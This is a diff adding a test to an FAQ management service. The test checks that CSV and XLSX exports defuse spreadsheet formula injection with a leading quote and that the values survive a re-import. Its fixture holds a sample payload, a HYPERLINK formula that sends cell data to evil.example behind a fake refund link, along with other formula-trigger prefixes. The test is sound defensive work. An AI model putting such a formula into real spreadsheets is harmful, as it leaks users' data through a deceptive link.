@@ -220,3 +220,49 @@ p04,售后,怎么换货,联系客服,
     expect(Number(v?.version)).toBeGreaterThan(3);
   });
 });
+
+describe('FAQ export and formula injection', () => {
+  const evil = {
+    id: 'inj1',
+    category: '@分类',
+    question: '+保价怎么算',
+    answer: '=HYPERLINK("http://evil.example/?"&A2,"点我退款")',
+    similarQuestions: ['-多少钱'],
+  };
+
+  it('exports formula-like text with a leading quote in CSV and XLSX, and imports it back unchanged', async () => {
+    const created = await api(server, 'POST', '/api/faqs', { token: admin, body: evil });
+    expect(created.status).toBe(201);
+
+    const csv = await (
+      await fetch(`${server.url}/api/faqs/export?format=csv`, {
+        headers: { authorization: `Bearer ${admin}` },
+      })
+    ).text();
+    const line = csv.split('\r\n').find((l) => l.startsWith('inj1,'));
+    expect(line).toBe(
+      `inj1,'@分类,'+保价怎么算,"'=HYPERLINK(""http://evil.example/?""&A2,""点我退款"")",'-多少钱,true,,,,`,
+    );
+
+    const xlsx = await fetch(`${server.url}/api/faqs/export?format=xlsx`, {
+      headers: { authorization: `Bearer ${admin}` },
+    });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await xlsx.arrayBuffer());
+    const sheet = workbook.worksheets[0]!;
+    let row: ExcelJS.Row | undefined;
+    sheet.eachRow((r) => {
+      if (r.getCell(1).value === 'inj1') row = r;
+    });
+    expect(row?.getCell(4).value).toBe(`'${evil.answer}`);
+    expect(row?.getCell(4).formula).toBeUndefined();
+    expect([2, 3, 5].map((c) => row?.getCell(c).value)).toEqual(["'@分类", "'+保价怎么算", "'-多少钱"]);
+
+    // Re-importing the export changes nothing: the quote is ours and is taken off again.
+    const res = await importCsv(csv);
+    expect(res.status).toBe(200);
+    const back = await api<TFaq>(server, 'GET', '/api/faqs/inj1', { token: admin });
+    expect(back.body).toMatchObject(evil);
+    await api(server, 'DELETE', '/api/faqs/inj1', { token: admin });
+  });
+});
